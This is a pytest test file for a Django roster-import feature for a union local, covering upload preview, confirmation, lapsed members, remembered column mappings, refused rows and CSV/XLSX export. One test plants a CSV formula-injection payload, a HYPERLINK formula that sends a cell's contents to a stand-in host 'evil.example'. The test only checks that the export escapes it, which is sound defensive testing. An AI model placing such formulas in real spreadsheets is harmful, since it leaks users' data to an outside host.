"""A local's staff import their roster in the admin: upload, preview (added, changed, lapsed,
refused rows with line and reason), confirm, history; a lapsed row ends the membership; the
column mapping is remembered; the export cannot run as a formula."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from members.membership import grant
from members.models import (
    Membership,
    RosterEntry,
    RosterImport,
    RosterMapping,
    RosterStatus,
    RosterUpload,
)
from tests.locals.helpers import login_as_local_editor

from .roster_files import FIVE_ROWS, confirm, count, csv_bytes, form_values, upload, xlsx_bytes

pytestmark = pytest.mark.clock  # uploads expire and imports are dated with timezone.now()


@pytest.fixture
def staff(client, db, tree):
    return login_as_local_editor(client, 12)


def _roster(local):
    return {e.member_number: e for e in RosterEntry.objects.filter(local=local)}


def test_five_rows_one_bad_preview_then_confirm_applies_four(client, tree, staff):
    preview = upload(client, tree.local12, csv_bytes(FIVE_ROWS), name="march.csv")
    html = client.get(preview).content.decode()
    assert (count(html, "added"), count(html, "refused"), count(html, "lapsed")) == (4, 1, 0)
    # The refused row: its line in the file (the heading is line 1) and the reason.
    assert "<td>4</td><td>12-000003</td><td>bad email “not-an-email”</td>" in html
    assert not RosterEntry.objects.exists(), "the preview changes nothing"

    response = confirm(client, preview)
    assert response.status_code == 302
    assert response["Location"] == reverse("members_roster:history", args=[tree.local12.pk])
    roster = _roster(tree.local12)
    assert set(roster) == {"12-000001", "12-000002", "12-000004", "12-000005"}
    assert roster["12-000002"].email == "ben.okoro@example.org"  # matched lower-cased
    assert roster["12-000002"].status == RosterStatus.RETIRED
    record = RosterImport.objects.get(local=tree.local12)
    assert (record.added, record.refused, record.user, record.file_name) == (
        4,
        1,
        staff,
        "march.csv",
    )
    history = client.get(response["Location"]).content.decode()
    assert "march.csv" in history and "Roster imported: 4 added" in history
    assert "4 added, 0 changed, 0 unchanged, 0 lapsed, 1 refused" in history
    assert not RosterUpload.objects.exists(), "the file is gone once applied"
    # The confirmed upload cannot be applied twice.
    assert client.post(preview, {"action": "confirm"}).status_code == 404


def test_reimport_lapses_missing_and_lapsed_rows_and_ends_their_memberships(client, tree, staff):
    confirm(client, upload(client, tree.local12, csv_bytes(FIVE_ROWS)))
    roster = _roster(tree.local12)
    ana = get_user_model().objects.create_user("ana", email="Ana.Lopez@example.org")
    dev = get_user_model().objects.create_user("dev", email="dev.shah@example.org")
    ben = get_user_model().objects.create_user("ben", email="ben.okoro@example.org")
    for user, number in ((ana, "12-000001"), (dev, "12-000004"), (ben, "12-000002")):
        grant(user, tree.local12, entry=roster[number])
    members = tree.local12.access.members
    assert members.user_set.filter(pk=ana.pk).exists()

    # Ana lapses in the file; Dev is no longer in it; Ben moves to another employer.
    rows = [list(row) for row in FIVE_ROWS if row[0] not in ("12-000003", "12-000004")]
    rows[0][5] = "Lapsed"
    rows[1][4] = "Iron Range Community Clinics"
    preview = upload(client, tree.local12, csv_bytes(rows))
    html = client.get(preview).content.decode()
    assert (count(html, "changed"), count(html, "lapsed"), count(html, "unchanged")) == (1, 2, 1)
    assert "lapsed: not in the file" in html  # Dev
    assert "Iron Range Community Clinics" in html  # Ben's change, shown before it is applied

    confirm(client, preview)
    roster = _roster(tree.local12)
    assert roster["12-000001"].status == roster["12-000004"].status == RosterStatus.LAPSED
    assert roster["12-000002"].employer == "Iron Range Community Clinics"
    assert set(Membership.objects.values_list("user__username", flat=True)) == {"ben"}
    assert set(members.user_set.values_list("username", flat=True)) == {"ben"}
    record = RosterImport.objects.filter(local=tree.local12).first()
    assert (record.changed, record.lapsed, record.unchanged) == (1, 2, 1)


def test_a_refused_row_leaves_the_member_as_they_are(client, tree, staff):
    """A typo must not lapse a member: refused rows keep their number's roster row."""
    confirm(client, upload(client, tree.local12, csv_bytes(FIVE_ROWS[:2])))
    rows = [
        ["12-000001", "Ana", "Lopez", "ana@", "HealthPartners", "active"],  # bad email
        ["12-000002", "Ben", "Okoro", "ben.okoro@example.org", "HealthPartners", "retired"],
        ["12-000002", "Benny", "Okoro", "", "HealthPartners", "retired"],  # twice
        ["", "No", "Number", "", "", "active"],
        ["12-000009", "Fay", "Ng", "", "", "on strike"],
    ]
    html = client.get(upload(client, tree.local12, csv_bytes(rows))).content.decode()
    assert (count(html, "refused"), count(html, "lapsed"), count(html, "added")) == (5, 0, 0)
    for line, reason in (
        (2, "bad email “ana@”"),
        (3, "member number 12-000002 also on line 4"),
        (4, "member number 12-000002 also on line 3"),
        (5, "no member number"),
        (6, "unknown status “on strike” (active, retired or lapsed)"),
    ):
        assert f"<td>{line}</td>" in html and reason in html
    assert "Confirm the import" not in html  # nothing to apply


def test_the_column_mapping_is_remembered_for_the_local(client, tree, staff):
    headings = ["Mbr #", "Given", "Family", "Contact", "Shop", "Standing"]
    rows = [["12-000007", "Gil", "Moe", "gil@example.org", "Main office", "A"]]
    preview = upload(client, tree.local12, csv_bytes(rows, headings))
    html = client.get(preview).content.decode()
    assert "What the import would do" not in html  # no column looks like a member number
    mapping = {
        "member_number": "Mbr #",
        "first_name": "Given",
        "last_name": "Family",
        "email": "Contact",
        "worksite": "Shop",
    }
    response = client.post(preview, {**mapping, "action": "preview"})
    html = response.content.decode()
    assert count(html, "added") == 1
    assert RosterMapping.objects.get(local=tree.local12).columns == mapping

    # The next upload with the same columns is previewed at once, mapped as before.
    html = client.get(upload(client, tree.local12, csv_bytes(rows, headings))).content.decode()
    assert count(html, "added") == 1
    assert {k: v for k, v in form_values(html).items() if v and k != "digest"} == mapping
    # Another local's mapping is its own.
    assert not RosterMapping.objects.filter(local=tree.local212).exists()


def test_xlsx_roster_with_numbers_typed_as_numbers(client, tree, staff):
    rows = [[4217, "Pat", "Rivera", "pat.rivera@example.org", "HealthPartners", "ACTIVE"]]
    preview = upload(client, tree.local12, xlsx_bytes(rows), name="roster.xlsx")
    confirm(client, preview)
    entry = RosterEntry.objects.get(local=tree.local12)
    assert (entry.member_number, entry.status) == ("4217", RosterStatus.ACTIVE)


@pytest.mark.parametrize(
    "name, data, error",
    [
        ("roster.txt", b"Member number\n1\n", "Upload a .csv or .xlsx file."),
        ("roster.xlsx", b"not a zip", "This is not an Excel (.xlsx) file."),
        ("roster.csv", b",,\n1,2,3\n", "The file has no heading row"),
    ],
)
def test_a_file_that_is_not_a_roster_is_a_form_error(client, tree, staff, name, data, error):
    response = client.post(
        reverse("members_roster:upload", args=[tree.local12.pk]),
        {"file": SimpleUploadedFile(name, data)},
    )
    assert response.status_code == 200
    assert error in response.content.decode()
    assert not RosterUpload.objects.exists()


def test_a_stale_preview_is_not_applied(client, tree, staff):
    preview = upload(client, tree.local12, csv_bytes(FIVE_ROWS))
    values = form_values(client.get(preview).content.decode())
    # Other columns than the previewed ones: the preview shown again, nothing applied.
    response = client.post(preview, {**values, "first_name": "Last name", "action": "confirm"})
    assert "changed since the preview" in response.content.decode()
    assert not RosterEntry.objects.exists()
    RosterEntry.objects.create(local=tree.local12, member_number="12-000001")  # meanwhile
    response = client.post(preview, {**values, "action": "confirm"}, follow=True)
    assert "changed since the preview" in response.content.decode()
    assert RosterEntry.objects.filter(local=tree.local12).count() == 1
    assert not RosterImport.objects.exists()


def test_export_is_formula_safe(client, tree, staff):
    RosterEntry.objects.create(
        local=tree.local12,
        member_number="12-000666",
        first_name='=HYPERLINK("http://evil.example/?x="&B2,"Click")',
        last_name="@SUM(1+1)",
        phone="+1 651 555 0100",
    )
    url = reverse("members_roster:export", args=[tree.local12.pk])
    response = client.get(url, {"format": "csv"})
    assert response["Content-Disposition"].startswith('attachment; filename="roster-')
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["member number", "first name", "last name"]
    assert rows[1][1] == "'" + '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
    assert rows[1][2] == "'@SUM(1+1)"

    from openpyxl import load_workbook

    response = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert row[1].value.startswith("=HYPERLINK") and row[1].data_type == "s"  # text, not formula

    # The CSV export imports back as it was: nothing changes.
    preview = upload(client, tree.local12, text.encode())
    html = client.get(preview).content.decode()
    assert (count(html, "unchanged"), count(html, "changed"), count(html, "refused")) == (1, 0, 0)


def test_roster_list_search_and_remove_a_member(client, tree, staff):
    for number in range(60):
        RosterEntry.objects.create(
            local=tree.local12, member_number=f"12-1{number:05}", last_name=f"Member{number}"
        )
    pat = RosterEntry.objects.create(
        local=tree.local12,
        member_number="12-004217",
        first_name="Pat",
        last_name="Rivera",
        email="pat.rivera@example.org",
    )
    url = reverse("members_roster:list", args=[tree.local12.pk])
    html = client.get(url).content.decode()
    assert "61 members on the roster" in html and "Page 1 of 2" in html
    html = client.get(url, {"q": "rivera"}).content.decode()
    assert "12-004217" in html and "12-100001" not in html
    assert client.get(url, {"p": "999", "status": "nonsense"}).status_code == 200

    user = get_user_model().objects.create_user("pat", email="pat.rivera@example.org")
    grant(user, tree.local12, entry=pat)
    remove = reverse("members_roster:remove", args=[tree.local12.pk, pat.pk])
    assert "Their account stops being a member" in client.get(remove).content.decode()
    client.post(remove)
    assert not RosterEntry.objects.filter(pk=pat.pk).exists()
    assert not Membership.objects.filter(user=user).exists()
    assert not user.groups.filter(pk=tree.local12.access.members.pk).exists()
